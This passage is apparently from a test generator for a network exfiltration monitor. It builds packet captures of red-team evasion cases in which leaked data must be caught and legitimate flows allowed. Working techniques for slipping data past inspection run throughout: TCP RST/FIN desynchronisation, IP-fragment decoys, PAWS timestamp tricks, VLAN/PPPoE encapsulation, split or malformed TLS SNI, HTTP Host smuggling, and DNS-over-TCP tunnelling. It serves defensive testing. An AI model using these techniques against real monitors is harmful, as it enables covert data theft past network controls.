    frag_hello_flow(cap, n, S6, 42108, E2M6, 208, E2M_NAME, three_frags, passm(n))
    return cap, {"pass": [passm(n)]}


# --- 802.1Q tagged frames

@case
def case_vlan_e2m_ok(n):
    cap = Capture()
    tls_flow(cap, S1, 42111, E2M, 211, n, send_whole(hello(n)), passm(n), vlans=((0x8100, 100),))
    return cap, {"pass": [passm(n)]}


@case
def case_vlan_evil(n):
    cap = Capture()
    tls_flow(cap, S1, 42112, E2M, 212, n, send_whole(hello(n, sni=EVIL, sid=sid32(leak(n)))), leak(n),
             vlans=((0x8100, 100),))
    return cap, {"leak": [leak(n)]}


@case
def case_qinq_social(n):
    cap = Capture()
    tls_flow(cap, O1, 42113, SOC, 213, n, send_whole(hello(n, sni=FB, sid=sid32(leak(n)))), leak(n),
             vlans=((0x88A8, 200), (0x8100, 100)))
    return cap, {"leak": [leak(n)]}


# --- SYN with data (TCP Fast Open, RFC 7413)

@case
def case_syn_data_tfo(n):
    """The SYN carries an e2m ClientHello and a TFO cookie; the server, without
    TFO, acks the SYN alone, and the client sends an evil ClientHello."""
    cap = Capture()
    t = ETcp(cap, S1, 42121, E2M, 443, isn=221, rtt_us=20000)
    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7), (34, prand(n + "cookie", 8))]
    t.raw(True, "S", hello(n), options=opts)
    t.cseq += 1
    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])
    t.sseq += 1
    t.ack(True)
    t.data(True, hello(n, sni=EVIL, sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, marked_record(leak(n), n + "req"))
    t.close()
    return cap, {"leak": [leak(n)]}


# --- urgent data (RFC 793 / RFC 1122 / RFC 6093)

@case
def case_urgent(n):
    """The ClientHello segment has URG set, the urgent pointer inside the name."""
    cap = Capture()
    h = hello(n, sid=sid32(leak(n)))
    off = name_offset(h, E2M_NAME)

    def send(t):
        t.raw(True, "PAU", h, tcpkw={"urgptr": off + 4})
        t.cseq += len(h)
    tls_flow(cap, S1, 42131, E2M, 231, n, send, leak(n))
    return cap, {"leak": [leak(n)]}


# --- RST and FIN desynchronisation

@case
def case_rst_then_data(n):
    """An allowed session, the client's RST, then data without a new handshake."""
    cap = Capture()
    t = tls_established(cap, S1, 42141, E2M, 241, n)
    t.raw(True, "R")
    t.data(True, b"GET / HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    return cap, {"leak": [leak(n)]}


@case
def case_rst_srv_then_data(n):
    """An allowed session, the server's RST (its idle timeout), then the client's
    plaintext without a new handshake: the server, reset, discards it, and it must not
    reach anything on the way either. The flow may keep its verdict (the client's
    bytes in flight cross an honest server RST: srv_rst_race_ok); none of them passes."""
    cap = Capture()
    t = tls_established(cap, S1, 42149, E2M, 249, n)
    t.raw(False, "RA")
    t.data(True, b"GET / HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n")
    t.data(True, b"SSH-2.0-OpenSSH_9.2\r\n" + leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_rst_badsum_then_data(n):
    """An allowed session, a RST with a wrong checksum (the server keeps the
    connection), then plaintext."""
    cap = Capture()
    t = tls_established(cap, S1, 42142, E2M, 242, n)
    t.raw(True, "R", tcpkw={"chksum": 0xBEEF})
    t.data(True, b"GET / HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_fin_then_data(n):
    """An allowed session, the client's FIN, then client data beyond the FIN."""
    cap = Capture()
    t = tls_established(cap, S1, 42143, E2M, 243, n)
    t.raw(True, "FA")
    t.cseq += 1
    t.raw(False, "A")
    t.data(True, marked_record(leak(n), n + "late"))
    t.raw(False, "FA")
    t.sseq += 1
    t.ack(True)
    return cap, {"leak": [leak(n)]}


@case
def case_rst_new_handshake_ok(n):
    """A session reset by the client, then a new connection on the same 5-tuple."""
    cap = Capture()
    t = tls_established(cap, S1, 42144, E2M, 244, n)
    t.raw(True, "R")
    tls_flow(cap, S1, 42144, E2M, 5244, n + "2", send_whole(hello(n + "2")), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_fin_halfclose_ok(n):
    """The server closes its side first; the client still sends, then closes."""
    cap = Capture()
    t = tls_established(cap, S1, 42145, E2M, 245, n)
    t.raw(False, "FA")
    t.sseq += 1
    t.ack(True)
    t.data(True, marked_record(passm(n), n + "late"))
    t.send(True, record(21, prand(n + "cn", 19), 0x0303))
    t.raw(True, "FA")
    t.cseq += 1
    t.ack(False)
    return cap, {"pass": [passm(n)]}


# --- insertion through IP fragments: a decoy datagram the server never completes

# the client port of each case (its ISN: the port - 41900)
CPORT.update({"after_frag4_ttl": 42401, "after_frag4_overlap": 42402, "after_frag4_lsrr": 42403,
              "after_frag6_dstopt": 42404, "after_frag6_hlim": 42405, "after_frag6_tiny": 42406})


def frag_send(t, payload, seq, parts, ident):
    """The client's segment (payload at seq) sent as IP fragments: parts
    lists (start, end, edit) in sending order, bytes of the IP payload;
    edit(fragment) returns the frame's L3 to send instead (None: as cut)."""
    ip = (IPv6 if ":" in t.c else IP)(src=t.c, dst=t.s)
    pkt = ip / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=seq, ack=t.sseq, window=64240) / Raw(payload)
    v6 = IPv6 in pkt
    hdr = (IPv6 if v6 else IP)(bytes(pkt))  # checksums filled in
    l4 = bytes(hdr.payload)
    gap = t.rtt // 2
    for a, b, edit in parts:
        b = min(b, len(l4))
        assert a % 8 == 0 and a < b
        more = b < len(l4)
        if v6:
            f = (IPv6(src=hdr.src, dst=hdr.dst, hlim=hdr.hlim)
                 / IPv6ExtHdrFragment(nh=hdr.nh, offset=a // 8, m=int(more), id=ident) / Raw(l4[a:b]))
        else:
            f = IP(src=hdr.src, dst=hdr.dst, ttl=hdr.ttl, id=ident, proto=hdr.proto,
                   flags="MF" if more else 0, frag=a // 8) / Raw(l4[a:b])
        if edit:
            f = edit(f)
        t.cap.emit(l2(t.c, t.s, t.vlans) / f, gap)
        gap = 100


def frag_decoy(parts, ident=0x4a4a):
    return lambda t, decoy, base: frag_send(t, decoy, base, parts, ident)


def set_field(field, value):
    def edit(f):
        setattr(f, field, value)
        return f
    return edit


def with_dstopt(f):
    """The fragment with a Destination Options header before its Fragment
    header, holding an option of an unknown type that says discard."""
    opt = IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x9E, optdata=b"\x00" * 4)])
    return IPv6(src=f.src, dst=f.dst, hlim=f.hlim) / opt / f[IPv6ExtHdrFragment]


@case
def case_after_frag4_ttl(n):
    """The decoy record in two IPv4 fragments, the later with a TTL that
    expires before the server (the datagram is never whole there)."""
    return after_insert(n, frag_decoy([(0, 48, None), (48, 1 << 16, set_field("ttl", 1))]))


@case
def case_after_frag4_overlap(n):
    """The decoy record in two IPv4 fragments that overlap by 8 bytes, the
    same bytes in both (Linux discards the whole datagram, RFC 5722)."""
    return after_insert(n, frag_decoy([(0, 48, None), (40, 1 << 16, None)]))


@case
def case_after_frag4_lsrr(n):
    """The decoy record in two IPv4 fragments, the later with a loose
    source route option (hosts drop source-routed packets by default)."""
    def lsrr(f):
        f.options = [IPOption_LSRR(routers=["192.0.2.1"])]
        return f
    return after_insert(n, frag_decoy([(0, 48, None), (48, 1 << 16, lsrr)]))


@case
def case_after_frag6_dstopt(n):
    """IPv6: the decoy record in two fragments, each with a Destination
    Options header before the Fragment header holding an option of an
    unknown type that says discard (RFC 8200 4.2)."""
    return after_insert(n, frag_decoy([(0, 48, with_dstopt), (48, 1 << 16, with_dstopt)]), v6_established(n))


@case
def case_after_frag6_hlim(n):
    """IPv6: the decoy record in two fragments, the later with hop limit 1."""
    return after_insert(n, frag_decoy([(0, 48, None), (48, 1 << 16, set_field("hlim", 1))]), v6_established(n))


@case
def case_after_frag6_tiny(n):
    """IPv6: the decoy record in two fragments, the first with only 8 bytes
    of the TCP header (RFC 8200 4.5: a host drops it)."""
    return after_insert(n, frag_decoy([(0, 8, None), (8, 1 << 16, None)]), v6_established(n))


def frag_ok(n, cport, c, s):
    """A genuine e2m session; one record sent in two IP fragments with the
    same TTL that do not overlap, then more records both ways."""
    cap = Capture()
    t = tls_established(cap, c, cport, s, cport - 41900, n)
    rec = marked_record(passm(n), n + "frag", 300)
    frag_send(t, rec, t.cseq, [(0, 96, None), (96, 1 << 16, None)], 0x4b4b)
    t.cseq += len(rec)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 400))
    t.data(True, tls_appdata(n + "more2", 200))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_after_frag4_ok(n):
    """A record in two IPv4 fragments, equal TTLs, no overlap: read and allowed."""
    return frag_ok(n, 42407, S1, E2M)


@case
def case_after_frag6_ok(n):
    """The same in two IPv6 fragments."""
    return frag_ok(n, 42408, S6, E2M6)


# --- Application-layer names (red-team findings, app-fixes)
# Office: the class of a name comes from the lists and from nDPI's own host
# table, whoever read the name (our ClientHello reader, our HTTP reading)
# and with one trailing dot ignored, as the lists do.

def http_flow(cap, cport, isn, dport, req, resp_marker=b""):
    """Office HTTP: handshake, the request, the server's answer, close."""
    t = ETcp(cap, O1, cport, SOC, dport, isn=isn, rtt_us=20000)
    t.handshake()
    t.data(True, req)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n" + resp_marker + b"x" * 20)
    t.close()
    return t


def http_req(host, marker, pre=b"", line=b"GET / HTTP/1.1"):
    return (pre + line + b"\r\nHost: " + host + b"\r\nUser-Agent: Mozilla/5.0\r\nX-Mark: "
            + marker + b"\r\nAccept: */*\r\n\r\n")


@case
def case_app_rec2_fb(n):
    """Office: www.facebook.com (social by nDPI's host table only) in two records."""
    cap = Capture()
    m = hs_client_hello(n, sni=FB, sid=sid32(leak(n)))
    tls_flow(cap, O1, 42300, SOC, 400, n, send_whole(two_records(m, m.find(FB.encode()) + 3)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_rec16_instagram(n):
    """Office: www.instagram.com in 16-byte records."""
    cap = Capture()
    m = hs_client_hello(n, sni="www.instagram.com", sid=sid32(leak(n)))
    data = b"".join(record(22, m[i:i + 16]) for i in range(0, len(m), 16))
    tls_flow(cap, O1, 42301, SOC, 401, n, send_whole(data), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_seg1_twitter(n):
    """Office: twitter.com in one record, sent in 1-byte segments."""
    cap = Capture()
    h = hello(n, sni="twitter.com", sid=sid32(leak(n)))
    tls_flow(cap, O1, 42302, SOC, 402, n, lambda t: segments(t, h, 1), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_rec2_other_ok(n):
    """Office: a name of no class (www.example.org) in two records stays allowed."""
    cap = Capture()
    m = hs_client_hello(n, sni="www.example.org")
    tls_flow(cap, O1, 42303, SOC, 403, n, send_whole(two_records(m, m.find(b"example") + 3)), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_app_sni_dot_fb(n):
    """Office: SNI www.facebook.com. in one record (our reader refuses the
    dot; the office allows the exception; nDPI reads the name)."""
    cap = Capture()
    tls_flow(cap, O1, 42304, SOC, 404, n, send_whole(hello(n, sni=FB + ".", sid=sid32(leak(n)))), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_host_dot_fb(n):
    """Office HTTP: Host: www.facebook.com. (trailing dot)."""
    cap = Capture()
    http_flow(cap, 42305, 405, 80, http_req(b"www.facebook.com.", leak(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_host_dot_ok(n):
    """Office HTTP: Host: www.example.org. (trailing dot, no class) stays allowed."""
    cap = Capture()
    http_flow(cap, 42306, 406, 80, http_req(b"www.example.org.", passm(n)), passm(n))
    return cap, {"pass": [passm(n)]}


def bad_hello_case(n, cport, isn, data, sender=None):
    cap = Capture()
    tls_flow(cap, O1, cport, SOC, isn, n, sender or send_whole(data), leak(n))
    return cap, {"leak": [leak(n)]}


def two_records_v(msg, cut, v1, v2):
    return record(22, msg[:cut], v1) + record(22, msg[cut:], v2)


@case
def case_app_bad_rec2_dot_vk(n):
    """Office: m.vk.com. (trailing dot) in a hello over two records: the
    reader refuses the dot, nDPI reads no record-split hello."""
    m = hs_client_hello(n, sni=VK + ".", sid=sid32(leak(n)))
    return bad_hello_case(n, 42330, 430, two_records(m, m.find(VK.encode()) + 3))


@case
def case_app_bad_recver0300_vk(n):
    """Office: m.vk.com in two records of version 0x0300 (servers accept any 3.x)."""
    m = hs_client_hello(n, sni=VK, sid=sid32(leak(n)))
    return bad_hello_case(n, 42331, 431, two_records_v(m, m.find(VK.encode()) + 3, 0x0300, 0x0300))


@case
def case_app_bad_recver_mixed_fb(n):
    """Office: www.facebook.com in two records, versions 0x0301 then 0x0303."""
    m = hs_client_hello(n, sni=FB, sid=sid32(leak(n)))
    return bad_hello_case(n, 42332, 432, two_records_v(m, m.find(FB.encode()) + 3, 0x0301, 0x0303))


@case
def case_app_bad_sni_type1_fb(n):
    """Office: server_name list [type 1 www.example.org, host_name www.facebook.com]."""
    ents = [b"\x01" + sni_entry(b"www.example.org")[1:], sni_entry(FB.encode())]
    return bad_hello_case(n, 42333, 433, hello(n, sni_raw=sni_ext(ents), sid=sid32(leak(n))))


@case
def case_app_bad_recver_seg_vk(n):
    """Office: m.vk.com in one record of version 0x0300, sent in 40-byte
    segments (the reader refuses at the first header; the names come later)."""
    data = record(22, hs_client_hello(n, sni=VK), 0x0300)
    return bad_hello_case(n, 42334, 434, data, sender=lambda t: segments(t, data, 40))


@case
def case_app_bad_rec2_dot_ok(n):
    """Office: www.example.org. (no class) in two records: refused by the
    reader, an exception the office allows, no class: stays allowed."""
    cap = Capture()
    m = hs_client_hello(n, sni="www.example.org.")
    tls_flow(cap, O1, 42335, SOC, 435, n, send_whole(two_records(m, m.find(b"example") + 3)), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_app_http_crlf_vk(n):
    """Office HTTP: CRLF before the request line, Host m.vk.com (lists/social.txt)."""
    cap = Capture()
    http_flow(cap, 42310, 410, 80, http_req(b"m.vk.com", leak(n), pre=b"\r\n"), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_sp_fb(n):
    """Office HTTP: spaces before the request line, Host www.facebook.com (nDPI's host table)."""
    cap = Capture()
    http_flow(cap, 42311, 411, 80, http_req(b"www.facebook.com", leak(n), pre=b"  "), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_lf_seg_vk(n):
    """Office HTTP: a lone LF in a segment of its own, then the request for m.vk.com."""
    cap = Capture()
    t = ETcp(cap, O1, 42312, SOC, 80, isn=412, rtt_us=20000)
    t.handshake()
    t.data(True, b"\n")
    t.data(True, http_req(b"m.vk.com", leak(n)))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n" + leak(n) + b"x" * 20)
    t.close()
    return cap, {"leak": [leak(n)]}


def connect_flow(n, cport, isn, request):
    """Office: the request to a proxy port (3128), the proxy's 200, then the
    tunnelled TLS, whose bytes carry the case's LEAK marker."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 3128, isn=isn, rtt_us=20000)
    t.handshake()
    t.data(True, request)
    t.data(False, b"HTTP/1.1 200 Connection established\r\n\r\n")
    t.data(True, hello(n, sni="www.example.org", sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, marked_record(leak(n), n))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_crlf_connect(n):
    """Office: CRLF, then CONNECT www.example.org:443 to a proxy port (3128), then the tunnelled TLS."""
    return connect_flow(n, 42313, 413,
                        b"\r\nCONNECT www.example.org:443 HTTP/1.1\r\nHost: www.example.org:443\r\n\r\n")


@case
def case_app_http_crlf_absform(n):
    """Office: CRLF, then an absolute-form GET http://www.example.org/ to a proxy port (3128)."""
    cap = Capture()
    http_flow(cap, 42314, 414, 3128, http_req(b"www.example.org", leak(n), pre=b"\r\n",
                                              line=b"GET http://www.example.org/ HTTP/1.1"), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_crlf_ok(n):
    """Office HTTP: CRLF before a request for www.example.org (no class) stays allowed."""
    cap = Capture()
    http_flow(cap, 42315, 415, 80, http_req(b"www.example.org", passm(n), pre=b"\r\n"), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_app_udp_tls_e2m(n):
    """UDP datagrams to the e2m endpoint's TLS port that start like a TLS handshake record."""
    cap = Capture()
    for i in range(6):
        udp(cap, S1, 42320, E2M, 443, b"\x16\x03\x01\x05\x00" + leak(n) + prand(n + str(i), 600))
    return cap, {"leak": [leak(n)]}


@case
def case_app_udp_smtp_mail(n):
    """UDP datagrams to the mail relay's SMTP port that start with EHLO."""
    cap = Capture()
    for i in range(4):
        udp(cap, S1, 42321, MAIL, 25, b"EHLO ws-10.e2m.customs.example\r\n" + leak(n) + prand(n + str(i), 300))
    return cap, {"leak": [leak(n)]}


# ------------------------------------------------- the receiver's own checks
# Round three of the red team: segments a Linux receiver drops (or takes) by
# checks of its own that the monitor must mirror: an ACK too old for its
# window (tcp_ack, TCP_TOO_OLD_ACK; Geneva's corrupted ACK, a random one
# lands there half the time), PAWS marks that bare ACKs, retransmissions and
# the ClientHello itself move, data on a RST (never read), and frames under
# another encapsulation than the flow's own (PPPoE, an unknown tag type, an
# inner tag: the host never delivers them to IP).

CPORT.update({"after_insert_oldack": 42410, "after_insert_oldack_win": 42411,
              "after_insert_rstdata": 42413, "after_insert_pppoe": 42418,
              "after_insert_vlan9100": 42419, "after_insert_innertag": 42420})

WIN_C = 64240 << 7  # the client's window as the server scales it (WScale 7 both ways)


@case
def case_after_insert_oldack(n):
    """The decoy record's ACK 2^30 behind the server's next byte (a corrupted ACK)."""
    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, ack=(t.sseq - 0x40000000) & 0xFFFFFFFF))


@case
def case_after_insert_oldack_win(n):
    """The client acknowledges everything, then the decoy record's ACK lies one
    byte more than the client's largest window (scaled) behind."""
    def send(t, decoy, base):
        t.raw(True, "A")
        t.raw(True, "PA", decoy, seq=base, ack=(t.sseq - WIN_C - 1) & 0xFFFFFFFF)
    return after_insert(n, send)


@case
def case_oldack_inflight_ok(n):
    """The server has 100 KB in flight (more than the client's window field,
    less than the window it scales to) when the client's next record
    acknowledges none of it: an old ACK the server takes."""
    cap = Capture()
    t = tls_established(cap, S1, 42412, E2M, 512, n)
    ack0 = t.sseq
    for k in range(70):
        t.raw(False, "PA", tls_appdata(n + "bulk%d" % k, 1400), gap=100)
        t.sseq += 1405
    t.raw(True, "PA", marked_record(passm(n), n + "late", 200), ack=ack0)
    t.cseq += 205
    t.raw(True, "A")
    t.data(False, tls_appdata(n + "tail", 300))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_after_insert_rstdata(n):
    """The decoy record on a RST|ACK one byte before the server's next (its first
    byte the last one sent): a challenge ACK, the data never read."""
    last = tls_appdata(n + "req", 180)[-1:]
    return after_insert(n, lambda t, d, b: t.raw(True, "RA", last + d, seq=b - 1))


@case
def case_rst_hello_reopen(n):
    """The e2m ClientHello on a RST|ACK at exactly the server's next byte (it
    resets the connection unread), then a new SYN on the same ports whose
    stream goes on from the end of that hello, with the exfil ClientHello."""
    cap = Capture()
    t = ETcp(cap, S1, 42414, E2M, 443, isn=514, rtt_us=20000)
    t.handshake()
    h1 = hello(n)
    base = t.cseq
    t.raw(True, "RA", h1, seq=base)
    t2 = ETcp(cap, S1, 42414, E2M, 443, isn=base + len(h1) - 1, rtt_us=20000)
    t2.sseq = 888888
    t2.handshake()
    t2.data(True, hello(n + "evil", sni=EVIL, sid=sid32(leak(n))))
    t2.data(False, server_hello_flight(n))
    t2.data(True, CCS + tls_appdata(n + "fin", 53))
    t2.data(True, marked_record(leak(n), n + "req"))
    t2.data(False, tls_appdata(n + "resp", 400))
    t2.close()
    return cap, {"leak": [leak(n)]}


def paws_insert(n, cport, isn, move):
    """Both sides use timestamps; move(t, far) sends what raises the client's
    PAWS mark to `far` at the server; then the decoy record stamped on the old
    clock (the server refuses it), then plaintext HTTP stamped past far."""
    cap = Capture()
    t = tls_established_ts(cap, cport, isn, n)
    far = (t.ts[True] + 0x10000000) & 0xFFFFFFFF
    move(t, far)
    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
    decoy = tls_appdata(n + "decoy", len(http) - 5)
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, options=t.opts(True))
    t.raw(False, "A", ack=base, options=t.opts(False))
    t.raw(True, "PA", http, seq=base, options=t.opts(True, tsval=(far + 5) & 0xFFFFFFFF))
    t.cseq = base + len(http)
    t.raw(False, "A", options=t.opts(False))
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_after_paws_bareack(n):
    """PAWS moved by a bare ACK stamped far ahead (tcp_store_ts_recent)."""
    return paws_insert(n, 42415, 515, lambda t, far: t.raw(True, "A", options=t.opts(True, tsval=far)))


@case
def case_after_paws_retrans(n):
    """PAWS moved by a retransmission of the last 10 bytes stamped far ahead
    (tcp_replace_ts_recent)."""
    last = tls_appdata(n + "req", 180)
    return paws_insert(n, 42416, 516, lambda t, far: (
        t.raw(True, "PA", last[-10:], seq=t.cseq - 10, options=t.opts(True, tsval=far)),
        t.raw(False, "A", options=t.opts(False))))


@case
def case_after_paws_hello(n):
    """The ClientHello stamped far ahead of the SYN, the session going on from
    there; the client's next records, after the allow, are a decoy stamped
    between the two, then plaintext HTTP at the same sequence number."""
    cap = Capture()
    t = TsTcp(cap, S1, 42417, E2M, 443, isn=517, rtt_us=20000)
    t.handshake()
    syn_ts = t.ts[True]
    t.ts[True] = (syn_ts + 0x10000000) & 0xFFFFFFFF
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
    decoy = CCS + tls_appdata(n + "decoy", len(http) - 5 - len(CCS))
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, options=t.opts(True, tsval=syn_ts + 100))
    t.raw(True, "PA", http, seq=base, options=t.opts(True))
    t.cseq = base + len(http)
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


def encap_decoy(tags=(), pppoe=False):
    """Send the decoy in a frame to the same MACs under another encapsulation:
    tags (TPID, VLAN id) before the IP type, or a PPPoE session."""
    def send(t, decoy, base):
        s, d = mac_pair(t.c, t.s)
        ip = IP(src=t.c, dst=t.s) / TCP(sport=t.cport, dport=t.sport, flags="PA", seq=base, ack=t.sseq,
                                        window=64240) / Raw(decoy)
        body = bytes(ip)
        hdr = bytes.fromhex(d.replace(":", "")) + bytes.fromhex(s.replace(":", ""))
        if pppoe:
            frame = hdr + b"\x88\x64" + struct.pack("!BBHH", 0x11, 0, 1, len(body) + 2) + b"\x00\x21" + body
        else:
            frame = hdr + b"".join(struct.pack("!HH", tp, vid) for tp, vid in tags) + b"\x08\x00" + body
        t.cap.emit(Ether(frame), 10000)
    return send


@case
def case_after_insert_pppoe(n):
    """The decoy record inside a PPPoE session frame (the host has no session)."""
    return after_insert(n, encap_decoy(pppoe=True))


@case
def case_after_insert_vlan9100(n):
    """The decoy record behind a 0x9100 tag with VLAN id 0 (Linux knows no such tag type)."""
    return after_insert(n, encap_decoy(tags=((0x9100, 0),)))


@case
def case_after_insert_innertag(n):
    """The decoy record with a priority tag and an inner tag for VLAN 200 (no such VLAN on the host)."""
    return after_insert(n, encap_decoy(tags=((0x8100, 0), (0x8100, 200))))


@case
def case_prio_tag_ok(n):
    """A genuine session whose every frame carries a priority tag (802.1Q, VLAN id 0)."""
    cap = Capture()
    tls_flow(cap, S1, 42421, E2M, 521, n, send_whole(hello(n)), passm(n), vlans=((0x8100, 0),))
    return cap, {"pass": [passm(n)]}


# DNS over TCP (RFC 7766) to the resolver endpoint: message by message for
# the flow's whole life, not its first message only (red team F8).

def dns_pair(name, qtype, qid, addr):
    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=name, qtype=qtype)))
    a = bytes(DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qtype),
                  an=DNSRR(rrname=name, type=qtype, ttl=300, rdata=addr)))
    return struct.pack("!H", len(q)) + q, struct.pack("!H", len(a)) + a


@case
def case_dns_tcp_after(n):
    """A genuine query and answer over TCP, then a message of no DNS at all
    each way (a tunnel behind the first message)."""
    cap = Capture()
    t = ETcp(cap, S1, 42422, RESOLVER, 53, isn=522, rtt_us=4000)
    t.handshake()
    q, a = dns_pair(E2M_NAME, "A", 0x5252, E2M)
    t.data(True, q)
    t.data(False, a)
    body = leak(n) + prand(n, 600)
    t.data(True, struct.pack("!H", len(body)) + body)
    t.data(False, struct.pack("!H", len(body)) + body)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_dns_tcp_ok(n):
    """Over TCP: an A and an AAAA query in one segment (as glibc sends them),
    their answers, then a third query whose length comes in a segment of its own."""
    cap = Capture()
    t = ETcp(cap, S1, 42423, RESOLVER, 53, isn=523, rtt_us=4000)
    t.handshake()
    q1, a1 = dns_pair(E2M_NAME, "A", 0x5353, E2M)
    q2, a2 = dns_pair(E2M_NAME, "AAAA", 0x5354, E2M6)
    q3, a3 = dns_pair("api." + E2M_NAME, "A", 0x5355, E2M)
    t.data(True, q1 + q2)
    t.data(False, a1)
    t.data(False, a2)
    t.data(True, q3[:2])
    t.data(True, q3[2:])
    t.data(False, a3[:40])
    t.data(False, a3[40:])
    t.close()
    return cap, {"pass": [q3[2:], a3[40:]]}


# HTTP as servers parse it (red team round three, office): bare LF line
# ends (nginx, Node), white space after the Host value (trimmed by servers,
# kept by nDPI 4.2), two Host fields (Node serves the first, nDPI keeps the
# last), requests pipelined or kept alive (a virtual host serves each by its
# own Host), and what Squid's relaxed parser takes (a lower-case method, a
# tab between the request line's parts).

def lf_req(host, marker):
    return (b"GET / HTTP/1.1\nHost: " + host + b"\nUser-Agent: Mozilla/5.0\nX-Mark: " + marker
            + b"\nAccept: */*\n\n")


@case
def case_app_http_lf_vk(n):
    """Office HTTP: every header line ends in a bare LF; Host m.vk.com."""
    cap = Capture()
    http_flow(cap, 42430, 530, 80, lf_req(b"m.vk.com", leak(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_lf_ok(n):
    """Office HTTP: bare LF line ends, Host www.example.org (no class): allowed."""
    cap = Capture()
    http_flow(cap, 42431, 531, 80, lf_req(b"www.example.org", passm(n)), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_app_http_host_sp_vk(n):
    """Office HTTP: "Host: m.vk.com " (white space after the value)."""
    cap = Capture()
    http_flow(cap, 42432, 532, 80, http_req(b"m.vk.com \t", leak(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_dup_host_vk(n):
    """Office HTTP: two Host fields, m.vk.com first, www.example.org second."""
    cap = Capture()
    req = (b"GET / HTTP/1.1\r\nHost: m.vk.com\r\nHost: www.example.org\r\nX-Mark: " + leak(n)
           + b"\r\n\r\n")
    http_flow(cap, 42433, 533, 80, req, leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_pipe_vk(n):
    """Office HTTP: two requests pipelined in one segment, www.example.org then m.vk.com."""
    cap = Capture()
    http_flow(cap, 42434, 534, 80, http_req(b"www.example.org", b"first") + http_req(b"m.vk.com", leak(n)),
              leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_keepalive_vk(n):
    """Office HTTP: a request for www.example.org, its answer, then on the same
    connection a request for m.vk.com."""
    cap = Capture()
    t = ETcp(cap, O1, 42435, SOC, 80, isn=535, rtt_us=20000)
    t.handshake()
    t.data(True, http_req(b"www.example.org", b"first"))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n" + b"x" * 20)
    t.data(True, http_req(b"m.vk.com", leak(n)))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n" + leak(n) + b"x" * 20)
    t.close()
    return cap, {"leak": [leak(n)]}


def http_tiny_flow(cap, cport, isn, host, resp_marker):
    """Office HTTP: the request head in 1-byte segments (past classify_packets:
    no segment holds the Host), then the server's answer, close."""
    t = ETcp(cap, O1, cport, SOC, 80, isn=isn, rtt_us=20000)
    t.handshake()
    req = http_req(host, b"tiny")
    for i in range(len(req)):
        t.send(True, req[i:i + 1], gap=200)
    t.ack(False)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n" + resp_marker + b"x" * 20)
    t.close()


@case
def case_app_http_tiny_vk(n):
    """Office HTTP: a request for m.vk.com in 1-byte segments (red team round six)."""
    cap = Capture()
    http_tiny_flow(cap, 42460, 560, b"m.vk.com", leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_app_http_tiny_ok(n):
    """Office HTTP: a request for www.example.org in 1-byte segments: allowed."""
    cap = Capture()
    http_tiny_flow(cap, 42461, 561, b"www.example.org", passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_oneway_ok(n):
    """Strict: a genuine e2m session whose server packets never come this
    way (asymmetric routing; a capture of one direction): the client's
    ClientHello and records are read and allowed. No SYN-ACK: no window
    edge is known, and none may be assumed (found by tests/ctl, which
    replays demo.pcap into the inside port alone)."""
